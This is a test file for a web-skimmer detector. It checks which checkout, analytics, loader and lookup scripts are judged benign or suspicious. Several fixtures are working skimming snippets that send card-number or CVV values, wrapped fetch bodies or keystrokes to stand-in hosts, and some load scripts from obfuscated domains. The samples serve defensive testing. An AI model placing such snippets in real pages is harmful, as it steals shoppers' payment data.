// Honest code stays benign: vendors that prefix their domain with a region, words in comments, and a shop's own checkout.
import { describe, expect, it } from 'vitest'
import { judgeScript } from '#detection/index.ts'
import { textSignsOf } from '#detection/text-signs.ts'
import { lookAtCode } from '#program/index.ts'

const verdict = (code: string, given = {}) => judgeScript(code, given).verdict
const load = (address: string) =>
  `export function start(options) { var env = options.env || 'live', s = document.createElement('script'); s.async = true; s.src = ${address}; document.head.appendChild(s) } start({})`

describe('a loader that adds a prefix to its own domain', () => {
  it.each([
    `'https://' + env + '.fields-of-cards.com/v2/sdk.js'`,
    `\`https://\${env}.fields-of-cards.com/v2/sdk.js\``,
    `['https://', env, '-eu.fields-of-cards.com', '/v2/sdk.js'].join('')`,
    `'https://{env}.fields-of-cards.com/sdk.js'.replace('{env}', env)`,
    `'//' + (env === 'live' ? 'js' : 'js-test') + '.fields-of-cards.com/sdk.js'`,
    `'https://'.concat(env, '.fields-of-cards.com/', 'sdk.js')`,
    `({ live: 'https://js.fields-of-cards.com', test: 'https://js-test.fields-of-cards.com' })[env] + '/sdk.js'`,
  ])('is benign: %s', (address) => {
    expect(verdict(load(address))).toBe('benign')
  })

  it.each([
    `'https://' + 'fields-of' + '-cards.com/sdk.js'`,
    `atob('${btoa('https://js.fields-of-cards.com/sdk.js')}')`,
    `'https://' + 'moc.sdrac-fo-sdleif'.split('').reverse().join('') + '/sdk.js'`,
  ])('is not if the domain is hidden: %s', (address) => {
    expect(verdict(load(address))).toBe('suspicious')
    expect(verdict(`// Loads https://js.fields-of-cards.com/sdk.js\n${load(address)}`)).toBe('suspicious')
  })
})

describe('words in comments', () => {
  const code = `document.querySelector('#menu').addEventListener('click', function () { document.body.classList.toggle('open') })`
  it.each([
    '/* cc_number cvv card_number checkout eval(atob(x)) XMLHttpRequest skimmer */',
    '// card_number cvv checkout eval atob new Image().src fetch keylogger',
  ])('do not count: %s', (comment) => {
    const many = Array.from({ length: 20 }, () => comment).join('\n')
    expect(textSignsOf(`${many}\n${code}\n${many}`, lookAtCode(code)).words).toEqual(textSignsOf(code, lookAtCode(code)).words)
    expect(verdict(`${many}\n${code}\n${many}`)).toBe('benign')
  })

  it('are distinguished from strings and patterns', () => {
    const hides = `var a = /[/*]/; var b = '/*'; var s = document.createElement('script'); s.src = 'https://' + 'hidden-of' + '-words.com/x.js'; document.head.append(s); var c = '*/' // hidden-of-words.com`
    expect(verdict(hides)).toBe('suspicious')
  })
})

describe('a shop’s own checkout', () => {
  const checkout = `document.querySelector('#pay').addEventListener('submit', function (e) { e.preventDefault(); var f = e.target.elements; fetch('https://api.tea-shop.example/orders', { method: 'POST', body: JSON.stringify({ number: f.card_number.value, cvc: f.cvv.value }) }) })`
  it('is benign if it posts to a declared host', () => {
    expect(verdict(checkout)).toBe('malicious')
    expect(verdict(checkout, { approvedHosts: ['tea-shop.example'] })).toBe('benign')
    expect(verdict(checkout.replace('api.tea-shop', 'pay.unheard-of'), { approvedHosts: ['pay.unheard-of.example'] })).toBe('benign')
  })
})

describe('a lookup of a single field', () => {
  const ask = (field: string, address: string) =>
    `const field = document.querySelector('${field}'); field.addEventListener('change', async () => { const r = await fetch('${address}' + encodeURIComponent(field.value)); show(await r.json()) })`
  it.each([
    ['#billing_postcode', 'https://codes.mail-areas.example/v1/'],
    ['#address_line1', 'https://find.street-names.example/?q='],
    ['[name="vat_number"]', 'https://tax.number-check.example/?id='],
    ['#gift-card-code', 'https://balance.present-cards.example/'],
    ['input[name="q"]', 'https://find.shop-items.example/?q='],
  ])('is benign: %s', (field, address) => expect(verdict(ask(field, address))).toBe('benign'))

  it('is at most suspicious if only the field is unknown', () => {
    expect(verdict(ask('#part-number', 'https://stock.part-list.example/'))).toBe('suspicious')
  })

  it.each([
    ['the field is the card number', ask('#card_number', 'https://codes.mail-areas.example/')],
    [
      'the code is only active in the checkout',
      `if (/checkout/.test(location.href)) { ${ask('#postcode', 'https://a.mail-areas.example/')} }`,
    ],
    [
      'the code also takes other fields',
      `${ask('#postcode', 'https://a.mail-areas.example/')}; new Image().src = 'https://b.mail-areas.example/?' + document.querySelector('#cvv').value`,
    ],
  ])('is not benign if %s', (_, code) => expect(verdict(code)).not.toBe('benign'))
})

it('is benign to send a review form to a service, and to send stored values that nobody typed', () => {
  const form = `document.querySelector('#review-form').addEventListener('submit', function (e) { e.preventDefault(); fetch('https://api.star-words.example/', { method: 'POST', body: new FormData(this) }) })`
  expect(verdict(form)).toBe('benign')
  const visitor = `localStorage.setItem('visitor', Math.random()); navigator.sendBeacon('https://count.page-views.example/', localStorage.getItem('visitor')); document.querySelector('#note').oninput = (e) => localStorage.setItem('note', e.target.value)`
  expect(verdict(visitor)).toBe('benign')
})

it('is benign to decode and escape texts without a page, whatever the words', () => {
  const code = `const hex = '0123456789abcdef'; export function escape(text) { let out = ''; for (let at = 0; at < text.length; at++) { const code = text.charCodeAt(at); out += code < 128 ? text[at] : '%' + hex[code >> 4] + hex[code & 15] } return encodeURIComponent(out) } export const read = (bytes) => { let s = ''; for (const b of bytes) s += String.fromCharCode(b ^ 85); return decodeURIComponent(unescape(s)) }`
  expect(verdict(code)).toBe('benign')
})

describe('code that looks like a theft, and takes nothing', () => {
  const service = 'https://in.page-speeds.example/v1'
  it.each([
    [
      'measures the requests of a page',
      `var f = window.fetch; window.fetch = function (what, how) { navigator.sendBeacon('${service}', JSON.stringify({ verb: (how || {}).method, bytes: how && how.body && (how.body.size || how.body.length) })); return f.apply(this, arguments) }`,
    ],
    [
      'suggests streets, and moves among them by keys',
      `var box = document.querySelector('#street'); box.addEventListener('keydown', function (e) { if (e.key === 'ArrowDown') return next(); fetch('https://api.street-names.example/?q=' + encodeURIComponent(box.value)).then(function (r) { return r.json() }).then(show) }); function next() {} function show(list) { box.title = list.length }`,
    ],
    [
      'puts a product into Shopify’s cart',
      `document.querySelector('form.product').onsubmit = function (e) { e.preventDefault(); fetch('/cart/add.js', { method: 'POST', body: new FormData(this) }) }`,
    ],
    [
      'tells analytics the chosen way to ship',
      `document.addEventListener('change', function (e) { if (e.target.name === 'shipping') dataLayer.push({ event: 'add_shipping_info', tier: e.target.value }); e.target.type == 'radio' && dataLayer.push({ choice: e.target.value }) })`,
    ],
    [
      'tells analytics a hashed phone number',
      `(async () => { const field = document.querySelector('[name=mobile], input[type=tel]'); gtag('set', 'user_data', { phone: await digest(field.value) }) })(); async function digest(text) { return [...new Uint8Array(await crypto.subtle.digest('SHA-256', new TextEncoder().encode(text)))].join() }`,
    ],
    [
      'waits for a library that it loads',
      `window.maps = { use: function (name) { return ready().then(function () { return maps.use(name) }) } }; function ready() { return new Promise(function (done) { var s = document.createElement('script'); s.src = 'https://maps.googleapis.com/maps/api/js'; s.onload = done; document.head.append(s) }) } maps.use('places')`,
    ],
  ])('is benign if it %s', (_, code) => expect(verdict(code)).toBe('benign'))

  it.each([
    `document.addEventListener('change', function (e) { if (e.target.name === 'cc-number') navigator.sendBeacon('${service}', e.target.value) })`,
    `document.addEventListener('input', ({ target }) => { target.autocomplete == 'cc-csc' && (new Image().src = '${service}?' + target.value) })`,
    `document.addEventListener('change', function (e) { if (e.target.name === 'cc-number') dataLayer.push({ tier: e.target.value }) })`,
    `var f = window.fetch; window.fetch = function (what, how) { navigator.sendBeacon('${service}', how.body); return f.apply(this, arguments) }`,
    `var box = document.querySelector('#street'); box.addEventListener('keydown', function (e) { fetch('https://api.street-names.example/?q=' + e.key) })`,
  ])('is not if it does the same with the card: %s', (code) => expect(verdict(code)).not.toBe('benign'))
})
